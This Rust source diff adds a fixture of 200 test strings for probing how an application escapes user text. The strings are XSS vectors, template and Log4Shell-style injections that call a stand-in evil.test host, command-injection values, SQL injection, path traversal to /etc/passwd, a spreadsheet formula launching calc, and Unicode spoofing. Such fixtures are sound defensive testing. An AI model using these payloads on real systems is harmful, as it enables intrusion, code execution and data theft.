@@ -1,0 +1,186 @@
+//! Two hundred texts that somebody may write wherever a text can be written.
+
+/// What each text ends with: outside of text this would be an element and an attribute that no page has.
+const MARK: &str = "<x-mark y=1>\" onmark=1 ' onmark=2 ";
+
+const MARKUP: [&str; 40] = [
+    "<script>alert(1)</script>",
+    "</script><script>alert(1)</script>",
+    "<ScRiPt src=//evil.test/x.js></sCrIpT>",
+    "<script/x>alert(1)</script/x>",
+    "<<script>alert(1)//<</script>",
+    "<img src=x onerror=alert(1)>",
+    "<img/src=x/onerror=alert(1)>",
+    "<img src=`x`onerror=alert(1)>",
+    "\"><img src=x onerror=alert(1)>",
+    "'><svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<svg><use href=\"data:image/svg+xml,<svg id='x'/>#x\">",
+    "<svg><foreignObject><body onload=alert(1)>",
+    "</text></svg><img src=x onerror=alert(1)>",
+    "</title><script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+    "</pre><script>alert(1)</script>",
+    "</style><script>alert(1)</script>",
+    "--><script>alert(1)</script>",
+    "]]><script>alert(1)</script>",
+    "<!--<img src=\"--><img src=x onerror=alert(1)>",
+    "<iframe src=javascript:alert(1)>",
+    "<iframe srcdoc=\"<script>alert(1)</script>\">",
+    "<object data=javascript:alert(1)>",
+    "<embed src=javascript:alert(1)>",
+    "<base href=//evil.test/>",
+    "<meta http-equiv=refresh content=\"0;url=//evil.test\">",
+    "<link rel=stylesheet href=//evil.test/x.css>",
+    "<form action=//evil.test><input name=csrf>",
+    "<button formaction=javascript:alert(1)>x",
+    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<a href=javascript:alert(1)>x</a>",
+    "<a href=\"java\tscript:alert(1)\">x</a>",
+    "<template><script>alert(1)</script></template>",
+    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+    "<marquee onstart=alert(1)>",
+    "<input autofocus onfocus=alert(1)>",
+    "<style>@import'//evil.test/x.css';</style>",
+];
+
+const ENDS: [&str; 24] = [
+    "\" onmouseover=alert(1) x=\"",
+    "' onmouseover=alert(1) x='",
+    "` onmouseover=alert(1) x=`",
+    "\" autofocus onfocus=alert(1) \"",
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "vbscript:msgbox(1)",
+    "//evil.test",
+    "\\\\evil.test\\share",
+    "https://evil.test/\"><x>",
+    "[x](javascript:alert(1))",
+    "![x](https://evil.test/x.png)",
+    "[x](data:text/html;base64,PHNjcmlwdD4=)",
+    "<javascript:alert(1)>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)",
+    "&quot; onx=1",
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+    "\\u003cscript\\u003ealert(1)",
+    "\\x3cscript\\x3e",
+    "+ADw-script+AD4-alert(1)",
+    "expression(alert(1))",
+    "url(//evil.test/x)",
+];
+
+const TEMPLATES: [&str; 20] = [
+    "{{7*7}}",
+    "{{ constructor.constructor('alert(1)')() }}",
+    "{% raw %}{{ x }}{% endraw %}",
+    "{%- for x in y -%}",
+    "${7*7}",
+    "#{7*7}",
+    "<%= 7*7 %>",
+    "{{ ds }} {run_id}",
+    "{ds}",
+    "{{self.__init__.__globals__}}",
+    "${jndi:ldap://evil.test/x}",
+    "*{7*7}",
+    "@(7*7)",
+    "{{{x}}}",
+    "[[${7*7}]]",
+    "%{7*7}",
+    "{php}echo 7;{/php}",
+    "`id`",
+    "$(id)",
+    ";id;",
+];
+
+const DATA: [&str; 36] = [
+    "'; DROP TABLE run;--",
+    "' OR '1'='1",
+    "\" OR \"\"=\"",
+    "1; SELECT pg_sleep(9)",
+    "$1",
+    "?1",
+    "%' AND 1=1 --",
+    "_%",
+    "\\'; --",
+    "/* x */",
+    "../../../etc/passwd",
+    "..%2f..%2fetc%2fpasswd",
+    "%2e%2e/",
+    "....//....//",
+    "C:\\Windows\\win.ini",
+    "/etc/passwd",
+    "file:///etc/passwd",
+    "CON",
+    ".",
+    "..",
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-1+1",
+    "@SUM(1)",
+    "\t=1+1",
+    "{\"a\":1}",
+    "[1,2",
+    "null",
+    "true",
+    "1e999",
+    "-0",
+    "NaN",
+    "__proto__",
+    "constructor",
+    "\u{1b}[31mred\u{1b}[0m",
+];
+
+const LETTERS: [&str; 30] = [
+    "a\r\nset-cookie: x=1",
+    "a\nb",
+    "a\rb",
+    "a\u{2028}b\u{2029}c",
+    "a\u{85}b",
+    "\u{202e}gnp.exe",
+    "\u{2066}x\u{2069}",
+    "\u{200b}\u{200c}\u{200d}",
+    "\u{feff}x",
+    "\u{ad}x",
+    "e\u{301}\u{301}\u{301}\u{301}\u{301}",
+    "Ω≈ç√∫",
+    "田中さん",
+    "שלום",
+    "مرحبا",
+    "👩‍👩‍👧‍👦",
+    "🏳️‍🌈",
+    "\u{10ffff}",
+    "\u{fffd}",
+    "\u{e000}",
+    "ﷺ",
+    "ß",
+    "İi",
+    "K",
+    "＜script＞",
+    "ʺ onx=1",
+    "\u{1}\u{2}\u{7}\u{8}",
+    "\u{7f}",
+    "\t\u{b}\u{c}",
+    " ",
+];
+
+/// The texts, each with its number in front and the mark behind it. None has the character that no database takes.
+pub(super) fn texts() -> Vec<String> {
+    let long = ["<".repeat(300), "\"".repeat(300), "&".repeat(300)];
+    let all = [&MARKUP[..], &ENDS, &TEMPLATES, &DATA, &LETTERS].concat();
+    let mut texts: Vec<String> = all.into_iter().map(ToOwned::to_owned).collect();
+    texts.extend(long);
+    // The same markup again, where an attribute or an address would be left first.
+    let again = MARKUP.iter().map(|text| format!("\\\"'>{text}"));
+    texts.extend(again);
+    texts.extend((texts.len()..200).map(|nth| format!("<b id={nth}>")));
+    texts.truncate(200);
+    let numbered = texts.into_iter().enumerate();
+    numbered
+        .map(|(nth, text)| format!("{nth}{text}{MARK}"))
+        .collect()
+}
